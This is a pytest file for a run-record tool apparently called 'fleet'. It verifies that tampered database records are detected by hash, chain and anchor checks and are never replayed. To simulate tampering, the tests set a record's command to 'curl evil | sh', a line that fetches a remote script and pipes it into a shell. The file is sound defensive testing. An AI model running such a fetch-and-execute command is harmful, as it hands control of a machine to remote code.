"""`fleet rerun` replays what a run record says (command, code, data), so it checks first that the
record is the one written: its own hash, the chain's links from it to the tip, and the anchor (a
red-team finding: a record edited in the database was rerun as it was edited, while `audit
--verify` failed). `fleet audit RUN` judges one run's record the same way."""
from __future__ import annotations

import hashlib
import json

import pytest

from fleet.errors import IntegrityError
from fleet.records import lineage
from fleet.records.chain import RunRecord, append_record, canonical
from fleet.state.db import Database
from tests.unit.test_records_anchor_tamper import rewrite_and_rechain


@pytest.fixture
def db(fleet_home):
    d = Database(fleet_home / "state.db")
    yield d
    d.close()


def _records(db):
    for i in (1, 2):
        append_record(RunRecord(run_id=f"r-{i}", command=f"train --seed {i}", project="p", user="tester",
                                code_snapshot="a" * 64), db)


def _never_replayed(monkeypatch):
    def replayed(*args, **kwargs):
        raise AssertionError("the tampered record was replayed")
    monkeypatch.setattr(lineage, "rerun_config", replayed)


def test_a_record_edited_in_the_database_is_not_rerun(db, monkeypatch):
    _records(db)
    body = json.loads(db.execute("SELECT body FROM run_records WHERE run_id = 'r-1'")[0]["body"])
    body["command"] = "curl evil | sh"
    db.execute("UPDATE run_records SET body = ? WHERE run_id = 'r-1'", (json.dumps(body),))
    _never_replayed(monkeypatch)
    with pytest.raises(IntegrityError, match="r-1's record cannot be trusted: .*was modified"):
        lineage.rerun("r-1", db=db)
    assert not lineage.audit("r-1", db=db)["chain_ok"]


def test_a_newest_record_rewritten_with_its_hash_is_caught_by_the_anchor(db, monkeypatch):
    _records(db)
    rows = db.execute("SELECT seq FROM run_records WHERE run_id = 'r-2'")
    body = json.loads(db.execute("SELECT body FROM run_records WHERE run_id = 'r-2'")[0]["body"])
    body["command"] = "echo REWRITTEN-TIP"
    db.execute("UPDATE run_records SET body = ?, hash = ? WHERE seq = ?",
               (canonical(body).decode(), hashlib.sha256(canonical(body)).hexdigest(), rows[0]["seq"]))
    _never_replayed(monkeypatch)
    with pytest.raises(IntegrityError, match="anchored .* is no longer in the database"):
        lineage.rerun("r-2", db=db)
    report = lineage.audit("r-2", db=db)
    assert not report["chain_ok"] and report["record"]["command"] == "echo REWRITTEN-TIP"


def test_an_earlier_record_rewritten_and_rechained_is_caught_with_a_key(db, monkeypatch):
    monkeypatch.setenv("FLEET_RECORDS_KEY", "k" * 40)
    _records(db)
    rewrite_and_rechain(db, 1, command="curl evil | sh")
    _never_replayed(monkeypatch)
    with pytest.raises(IntegrityError, match="not signed with the records key"):
        lineage.rerun("r-1", db=db)


def test_an_intact_record_is_still_rerun(db, monkeypatch):
    _records(db)
    reached = []
    monkeypatch.setattr(lineage, "rerun_config", lambda rec, base: reached.append(rec.run_id) or 1 / 0)
    with pytest.raises(ZeroDivisionError):
        lineage.rerun("r-1", db=db)
    assert reached == ["r-1"] and lineage.audit("r-1", db=db)["chain_ok"]
